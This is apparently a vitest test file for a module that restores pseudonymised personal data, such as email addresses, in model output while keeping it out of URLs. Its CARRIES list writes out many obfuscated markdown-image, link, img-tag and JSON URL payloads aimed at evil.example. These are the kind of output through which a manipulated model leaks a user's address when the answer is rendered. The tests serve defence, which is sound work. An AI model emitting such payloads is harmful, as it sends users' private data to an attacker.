import { describe, expect, it } from 'vitest';
import { createRestorer, restored } from './pseudonyms.ts';

const MAIL = 'ann@example.com';
const vault = {
  textFor: (label: string) =>
    label === 'EMAIL_ADDRESS_1' ? MAIL : label === 'URL_1' ? 'https://ours.example/a' : undefined,
};

/** What a model writes so that whoever shows the answer carries a text away. */
const CARRIES = [
  '![x](https://evil.example/p.png?d=EMAIL_ADDRESS_1)',
  '![x](https://evil.example/p.png?d=<EMAIL_ADDRESS_1>)',
  '![x](<https://evil.example/p.png?d=a b EMAIL_ADDRESS_1>)',
  '[click](https://evil.example/EMAIL_ADDRESS_1)',
  '[click](https:&#47;&#47;evil.example/EMAIL_ADDRESS_1)',
  '[click](/next?to=EMAIL_ADDRESS_1)',
  '<img src="https://evil.example/EMAIL_ADDRESS_1">',
  '<img src=https:&sol;&sol;evil.example/EMAIL_ADDRESS_1>',
  '<img alt="x" src="https://evil.example/?q=all of it: EMAIL_ADDRESS_1">',
  "<img alt='a > b' src='/x\n?q=EMAIL_ADDRESS_1'>",
  '<a href = "//evil.example/EMAIL_ADDRESS_1">x</a>',
  'see https://EMAIL_ADDRESS_1.evil.example/',
  'see www.evil.example/EMAIL_ADDRESS_1',
  'see \\\\evil.example\\EMAIL_ADDRESS_1',
  '{"url":"https:\\/\\/evil.example\\/?d=EMAIL_ADDRESS_1"}',
  '{"to":"EMAIL_ADDRESS","url":"https://evil.example/?d=\\"EMAIL_ADDRESS_1"}',
  '[x]: https://evil.example/EMAIL_ADDRESS_1',
  '[x]: <https://evil.example/a b EMAIL_ADDRESS_1>',
  `https://evil.example/${'a'.repeat(5000)}EMAIL_ADDRESS_1`,
  'https://evil.example/\u00a0EMAIL_ADDRESS_1',
  '<URL_1>?q=<EMAIL_ADDRESS_1>',
  '[1] see https://evil.example/?d="EMAIL_ADDRESS_1',
  '["x"] see https://evil.example/?d="EMAIL_ADDRESS_1',
  '{"url":"https:\\u002f\\u002fevil.example\\u002f?d=EMAIL_ADDRESS_1"}',
  '[x]: https:/evil.example/EMAIL_ADDRESS_1',
  '[x]: https:evil.example/EMAIL_ADDRESS_1',
  '![x](</\t/evil.example/()EMAIL_ADDRESS_1>)',
  '<img/src="/\t/evil.example/EMAIL_ADDRESS_1">',
];

/** Where a person's address belongs, though signs of addresses are near. */
const SAYS = [
  'write to <EMAIL_ADDRESS_1>, or see https://example.com/help .',
  'https://example.com/help\nEMAIL_ADDRESS_1',
  '[EMAIL_ADDRESS_1](mailto:EMAIL_ADDRESS_1)',
  '[mail](<mailto:EMAIL_ADDRESS_1>) and [us](https://example.com) EMAIL_ADDRESS_1',
  '<a href="mailto:EMAIL_ADDRESS_1">EMAIL_ADDRESS_1</a>',
  '<b>EMAIL_ADDRESS_1</b> and <i class="x">EMAIL_ADDRESS_1</i>',
  'if a < b and c > d, EMAIL_ADDRESS_1',
  'x <y and then EMAIL_ADDRESS_1',
  '| Ann | EMAIL_ADDRESS_1 |',
  '{"to":"EMAIL_ADDRESS_1","see":"https://example.com","cc":["EMAIL_ADDRESS_1"]}',
  '// EMAIL_ADDRESS_1',
  '{"a":"c:\\\\","see":"https://example.com/\\\\","n":[1,true,null,-2.5e+3],"cc":"EMAIL_ADDRESS_1"}',
  '[a](b <c) and EMAIL_ADDRESS_1',
  'a and/or EMAIL_ADDRESS_1 (EMAIL_ADDRESS_1)',
];

describe('what is led back', () => {
  it.each(CARRIES)('stays out of an address: %s', (text) => {
    expect(restored(text, vault)).not.toContain(MAIL);
  });

  it.each(SAYS)('stands wherever else it is said: %s', (text) => {
    expect(restored(text, vault)).not.toContain('EMAIL_ADDRESS_1');
  });

  it('is the same for every cut', () => {
    for (const text of [...CARRIES, ...SAYS].filter(({ length }) => length < 1000)) {
      const whole = restored(text, vault);
      for (let at = 1; at < text.length; at++) {
        const restorer = createRestorer(vault);
        expect(restorer.push(text.slice(0, at)) + restorer.push(text.slice(at)) + restorer.end()).toBe(whole);
      }
    }
  });

  it('puts a whole address back where its pseudonym stands', () => {
    expect(restored('![x](<URL_1>) <URL_1> <img src="URL_1">', vault)).toBe(
      '![x](https://ours.example/a) https://ours.example/a <img src="https://ours.example/a">',
    );
  });
});
